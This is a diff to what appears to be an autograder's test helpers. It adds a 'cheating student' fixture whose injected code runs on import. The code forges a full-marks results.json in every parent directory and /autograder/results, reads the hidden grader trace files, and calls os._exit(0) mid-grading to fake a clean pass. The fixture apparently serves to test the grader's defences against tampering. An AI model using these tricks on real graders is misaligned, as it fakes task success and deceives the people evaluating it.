@@ -178,3 +178,101 @@ def partial(variation: str, keep: int) -> tuple[str, list[str]]:
 def write_rules(variation: str, text: str) -> Edit:
     """An edit that writes ``text`` as the student's rules file."""
     return write_file(f"{variation}.py", text)
+
+
+# -- the cheating student: a rules file that attacks the grader when it runs -----------------
+CHEAT_MARK = "CHEAT REPORT:"
+CHEAT_TRIED = ("forge results.json in its cwd and every parent, read the hidden traces, "
+               "os._exit(0) when asked to deal")
+FORGED_RESULTS = '{"score": 1000, "output": "all tests passed", "tests": []}\n'
+# Inserted right after ``from __future__ import annotations`` (Python requires that line to come
+# first), so the file compiles and the attack runs when the grader imports it.
+CHEAT_ATTACK = '''
+# ---- added by a student who would rather not write the rules ----
+import glob as _glob
+import os as _os
+
+
+def _parents(path):
+    path = _os.path.abspath(path)
+    while True:
+        yield path
+        parent = _os.path.dirname(path)
+        if parent == path:
+            return
+        path = parent
+
+
+def _forge():
+    """Write a full-marks results.json wherever the grader might read one."""
+    targets = ["/autograder/results/results.json"]
+    for start in (_os.getcwd(), _os.path.dirname(__file__)):
+        targets += [_os.path.join(d, "results.json") for d in _parents(start)]
+    written = []
+    for target in dict.fromkeys(targets):
+        try:
+            with open(target, "w") as handle:
+                handle.write(@FORGED@)
+            written.append(target)
+        except OSError:
+            pass
+    return written, len(set(targets))
+
+
+def _steal():
+    """Read every hidden trace file that can be found from here."""
+    patterns = [_os.path.join(d, "grader", "traces", "data", "*", "*") for d in _parents(_os.getcwd())]
+    patterns += ["/*/grader/traces/data/*/*", "/*/*/grader/traces/data/*/*", "/*/*/*/grader/traces/data/*/*"]
+    read = 0
+    for pattern in patterns:
+        for name in _glob.glob(pattern):
+            try:
+                with open(name, "rb") as handle:
+                    handle.read()
+                read += 1
+            except OSError:
+                pass
+    return read
+
+
+_written, _tried = _forge()
+print("@MARK@ results.json written at %d of %d places %s; %d hidden trace files read"
+      % (len(_written), _tried, _written, _steal()), flush=True)
+
+
+def _exit_mid_grading(*_args, **_kwargs):
+    """Leave with status 0, hoping the grader takes a clean exit for "all tests passed"."""
+    print("@MARK@ os._exit(0)", flush=True)
+    _os._exit(0)
+# ---- end of the addition ----
+'''
+FUTURE = "from __future__ import annotations\n"
+
+
+def cheat_text(starter: str) -> str:
+    """``starter`` (a rules file of stubs) with :data:`CHEAT_ATTACK` inserted after its
+    ``__future__`` import and its ``deal`` replaced by ``_exit_mid_grading``; it implements no
+    rule. Only ``deal`` exits: every trace starts with a deal, so the grader meets the exit once
+    per trace, and the other stubs fail fast (exiting in every rule would cost a worker restart
+    per request)."""
+    import re
+
+    attack = CHEAT_ATTACK.replace("@FORGED@", repr(FORGED_RESULTS)).replace("@MARK@", CHEAT_MARK)
+    if FUTURE in starter:
+        text = starter.replace(FUTURE, FUTURE + attack, 1)
+    else:
+        text = attack + starter
+    classes = re.findall(r"^class (\w+)\(Variation\):", text, flags=re.MULTILINE)
+    return text + "\n\n" + "".join(f"{name}.deal = _exit_mid_grading\n" for name in classes)
+
+
+def cheat(variation: str) -> Edit:
+    """An edit that turns the repo's ``<variation>.py`` (the starter) into :func:`cheat_text`
+    and adds a forged ``results.json`` next to it."""
+
+    def edit(work: Path) -> None:
+        path = work / f"{variation}.py"
+        path.write_text(cheat_text(path.read_text(encoding="utf-8")), encoding="utf-8")
+        (work / "results.json").write_text(FORGED_RESULTS, encoding="utf-8")
+
+    return edit
